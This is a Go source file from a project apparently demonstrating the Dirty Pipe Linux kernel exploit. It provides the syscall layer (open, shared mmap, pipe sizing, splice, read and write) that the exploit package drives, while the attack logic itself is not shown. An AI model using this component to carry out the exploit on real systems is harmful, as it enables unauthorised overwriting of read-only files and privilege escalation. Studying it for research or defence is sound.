// Copyright 2026 The dirtypipe Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Package linuxhost issues the demonstration's system calls against the
// running Linux kernel.
package linuxhost

import (
	"golang.org/x/sys/unix"

	"github.com/dirtypipe/dirtypipe/pkg/exploit"
)

// Host implements exploit.Host with raw system calls. Every call is issued
// exactly once; only EINTR is retried.
type Host struct{}

var _ exploit.Host = Host{}

// PageSize implements exploit.Host.PageSize.
func (Host) PageSize() int {
	return unix.Getpagesize()
}

// OpenReadOnly implements exploit.Host.OpenReadOnly.
func (Host) OpenReadOnly(path string) (int, error) {
	for {
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == unix.EINTR {
			continue
		}
		return fd, err
	}
}

// FileSize implements exploit.Host.FileSize.
func (Host) FileSize(fd int) (int64, error) {
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return 0, err
	}
	return st.Size, nil
}

// MapShared implements exploit.Host.MapShared.
func (Host) MapShared(fd int, addr uintptr, length int) (exploit.Mapping, error) {
	m, err := mapShared(fd, addr, length)
	if err != nil {
		return nil, err
	}
	return m, nil
}

// Pipe implements exploit.Host.Pipe.
func (Host) Pipe() (int, int, error) {
	var fds [2]int
	if err := unix.Pipe2(fds[:], unix.O_CLOEXEC); err != nil {
		return -1, -1, err
	}
	return fds[0], fds[1], nil
}

// SetPipeSize implements exploit.Host.SetPipeSize.
func (Host) SetPipeSize(fd, size int) (int, error) {
	return unix.FcntlInt(uintptr(fd), unix.F_SETPIPE_SZ, size)
}

// PipeSize returns the capacity of the pipe behind fd (F_GETPIPE_SZ).
func (Host) PipeSize(fd int) (int, error) {
	return unix.FcntlInt(uintptr(fd), unix.F_GETPIPE_SZ, 0)
}

// Read implements exploit.Host.Read.
func (Host) Read(fd int, p []byte) (int, error) {
	for {
		n, err := unix.Read(fd, p)
		if err == unix.EINTR {
			continue
		}
		return fixCount(n, err)
	}
}

// Write implements exploit.Host.Write.
func (Host) Write(fd int, p []byte) (int, error) {
	for {
		n, err := unix.Write(fd, p)
		if err == unix.EINTR {
			continue
		}
		return fixCount(n, err)
	}
}

// Splice implements exploit.Host.Splice.
func (Host) Splice(in int, off *int64, out int, length int) (int, error) {
	for {
		n, err := unix.Splice(in, off, out, nil, length, 0)
		if err == unix.EINTR {
			continue
		}
		return fixCount(int(n), err)
	}
}

// SetNonblock implements exploit.Host.SetNonblock.
func (Host) SetNonblock(fd int, nonblocking bool) error {
	return unix.SetNonblock(fd, nonblocking)
}

// Buffered implements exploit.Host.Buffered.
func (Host) Buffered(fd int) (int, error) {
	// TIOCINQ is FIONREAD on Linux.
	return unix.IoctlGetInt(fd, unix.TIOCINQ)
}

// Close implements exploit.Host.Close.
func (Host) Close(fd int) error {
	return unix.Close(fd)
}

func fixCount(n int, err error) (int, error) {
	if n < 0 {
		n = 0
	}
	return n, err
}
